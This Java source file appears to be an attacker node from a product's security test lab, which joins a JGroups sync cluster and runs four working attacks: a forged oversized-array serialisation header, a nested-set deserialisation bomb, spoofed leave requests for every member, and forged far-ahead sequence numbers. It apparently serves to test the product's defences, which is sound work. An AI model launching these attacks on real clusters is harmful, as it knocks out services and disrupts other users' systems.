package holdfast.sync.jgroups;

import holdfast.lab.Stranger;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import org.jgroups.Address;
import org.jgroups.BytesMessage;
import org.jgroups.EmptyMessage;
import org.jgroups.JChannel;
import org.jgroups.Message;
import org.jgroups.ObjectMessage;
import org.jgroups.conf.ClassConfigurator;
import org.jgroups.protocols.UDP;
import org.jgroups.protocols.pbcast.GMS;
import org.jgroups.protocols.pbcast.NAKACK2;
import org.jgroups.protocols.pbcast.NakAckHeader2;

/// A process that joins the sync channel with unchanged JGroups and the product's stack, and then attacks: `ATTACK BIND
/// GROUP PORT`. It knows everything but the key.
public final class StockNode {
    private static final String CLUSTER = "lab";
    private static final int ARRAY_LONGS = 100_000_000;
    private static final int NESTED_DEPTH = 27;
    private static final long SEQNO_AHEAD = 20_000_000;
    private static final int REPEATS = 10;

    /// The attacks.
    public enum Attack {
        /// A serialised array that is larger than any heap, in 27 bytes.
        HUGE_OBJECT,
        /// Sets in sets, which take for ever to deserialise.
        NESTED_OBJECT,
        /// Farewells in the names of all others.
        LEAVE,
        /// A message in the name of each other one, numbered so that everybody asks for 20 million before it.
        NUMBER_AHEAD
    }

    /// Stock UDP; the end of a datagram may be forged on its way out.
    public static final class Forging extends UDP {
        private static volatile boolean forges;

        public Forging() {
            id = ClassConfigurator.getProtocolId(UDP.class);
        }

        @Override
        protected void _send(InetAddress to, int port, byte[] data, int offset, int length) throws Exception {
            byte[] copy = Arrays.copyOfRange(data, offset, offset + length);
            if (forges) {
                ByteBuffer.wrap(copy).putInt(length - Integer.BYTES, ARRAY_LONGS); // the length of an empty array
            }
            super._send(to, port, copy, 0, length);
        }
    }

    private StockNode() {}

    public static void main(String... arguments) throws Exception {
        var attack = Attack.valueOf(arguments[0]);
        var channel = new JChannel(stack(arguments[1], arguments[2], arguments[3]));
        channel.setName("mallory");
        channel.connect(CLUSTER);
        System.out.println(Stranger.BEGUN);
        TimeUnit.SECONDS.sleep(2); // members that merge need so long
        var others = new ArrayList<>(channel.getView().getMembers());
        others.remove(channel.getAddress());
        System.out.println("the stranger sees " + others);
        for (int i = 0; i < REPEATS; i++) {
            attack(attack, channel, others);
            TimeUnit.MILLISECONDS.sleep(200);
        }
        Runtime.getRuntime().halt(0); // no farewell
    }

    private static void attack(Attack attack, JChannel channel, List<Address> others) throws Exception {
        switch (attack) {
            case HUGE_OBJECT -> {
                Forging.forges = true;
                send(channel, new ObjectMessage(null, new long[0]));
                Forging.forges = false;
            }
            case NESTED_OBJECT -> {
                Set<Object> nested = new HashSet<>();
                for (int i = 0; i < NESTED_DEPTH; i++) {
                    nested = new HashSet<>(Set.of(nested, "t" + i));
                }
                send(channel, new ObjectMessage(null, nested));
            }
            case LEAVE -> {
                short gms = channel.getProtocolStack().findProtocol(GMS.class).getId();
                for (Address to : others) {
                    for (Address who : others) {
                        send(
                                channel,
                                new EmptyMessage(to)
                                        .setSrc(who)
                                        .putHeader(gms, new GMS.GmsHeader(GMS.GmsHeader.LEAVE_REQ, who)));
                    }
                }
            }
            case NUMBER_AHEAD -> {
                short nakack =
                        channel.getProtocolStack().findProtocol(NAKACK2.class).getId();
                for (Address who : others) {
                    send(
                            channel,
                            new BytesMessage(null, new byte[1])
                                    .setSrc(who)
                                    .putHeader(nakack, NakAckHeader2.createMessageHeader(SEQNO_AHEAD)));
                }
            }
        }
    }

    /// Past all protocols, as who forges does.
    private static void send(JChannel channel, Message message) {
        message.setFlag(Message.Flag.OOB);
        channel.getProtocolStack().getTransport().down(message);
    }

    private static ByteArrayInputStream stack(String bind, String group, String port) throws IOException {
        try (var resource = GroupChannel.class.getResourceAsStream("udp.xml")) {
            if (resource == null) {
                throw new IOException("the product has no udp.xml any more");
            }
            var xml = new String(resource.readAllBytes(), StandardCharsets.UTF_8)
                    .replace("<holdfast.sync.jgroups.SealedUdp ", "<" + Forging.class.getName() + " ")
                    .replace("@bind@", bind)
                    .replace("@group@", group)
                    .replace("@port@", port);
            return new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8));
        }
    }
}
